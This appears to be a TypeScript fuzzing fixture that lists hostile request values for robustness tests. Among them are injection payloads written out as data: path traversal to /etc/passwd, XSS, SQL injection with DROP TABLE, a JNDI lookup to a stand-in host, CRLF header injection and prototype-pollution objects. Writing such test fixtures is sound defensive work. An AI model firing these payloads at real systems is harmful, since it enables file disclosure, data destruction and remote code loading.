// Hostile request values for the fuzzer: what attackers and broken clients send.
import fc from 'fast-check';

/** Strings that have broken parsers, queries, paths or logs somewhere. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e308',
  '-1e308',
  '1e-400',
  '-0',
  '0x1F',
  '9007199254740993',
  '99999999999999999999999999999999',
  '-1',
  '1.5',
  '__proto__',
  'constructor',
  'prototype',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '%',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  "'; DROP TABLE users; --",
  '{"$ne":null}',
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  '\r\nSet-Cookie: pwned=1',
  '\u202egnp.exe',
  '\u200b\u200c\u200d\ufeff',
  '\ud800',
  'Z̸̛̙͔a̵l̷g̶o̸',
  'ሰላም 🙂 مرحبا 你好',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'a'.repeat(10_000),
  'ü'.repeat(5_000),
];

/** Numbers at the edges of what JSON and the database hold (NaN and Infinity become null). */
export const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1.5,
  0.1 + 0.2,
  1e308,
  -1e308,
  5e-324,
  2 ** 31,
  2 ** 53 + 2,
  Number.MIN_SAFE_INTEGER,
];

/** An object with its own `__proto__` (and friends) key, as JSON.parse would make it. */
export function withOwnKey(target: object, key: string, value: unknown): Record<string, unknown> {
  const copy: Record<string, unknown> = { ...target };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

const pollution = fc.constantFrom(
  withOwnKey({}, '__proto__', { polluted: 'yes', isPlatformAdmin: true }),
  { constructor: { prototype: { polluted: 'yes' } } },
  withOwnKey({ role: 'OWNER' }, '__proto__', { role: 'OWNER' }),
);

const deep = (depth: number, inner: unknown): unknown =>
  depth === 0 ? inner : depth % 2 ? [deep(depth - 1, inner)] : { a: deep(depth - 1, inner) };

/** One hostile JSON value: odd strings and numbers, wrong types, nested junk, pollution keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: pollution },
  { weight: 1, arbitrary: fc.constantFrom(deep(64, 'x'), [[], {}, [null]], { '': '' }) },
);

/** Keys an attacker adds to an object. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'isPlatformAdmin', 'role', 'tenantId'),
  fc.string({ maxLength: 12 }),
);

/** Whole request bodies that are not what any route expects, with the content type they claim. */
export const hostileRawBody: fc.Arbitrary<{ contentType: string; text: string }> = fc.record({
  contentType: fc.constantFrom(
    'application/json',
    'application/json; charset=utf-16',
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=zzz',
    'image/png',
    'application/xml',
  ),
  text: fc.oneof(
    fc.constantFrom(
      '{"a":',
      '{"__proto__":{"polluted":"yes"}}',
      '{"constructor":{"prototype":{"polluted":"yes"}}}',
      '[]',
      'null',
      '"text"',
      '1e308',
      '\u0000',
      '['.repeat(5_000),
      `{"x":"${'y'.repeat(2_000_000)}"}`,
      '--zzz\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nnot an image\r\n--zzz--\r\n',
    ),
    fc.string({ unit: 'binary', maxLength: 200 }),
  ),
});
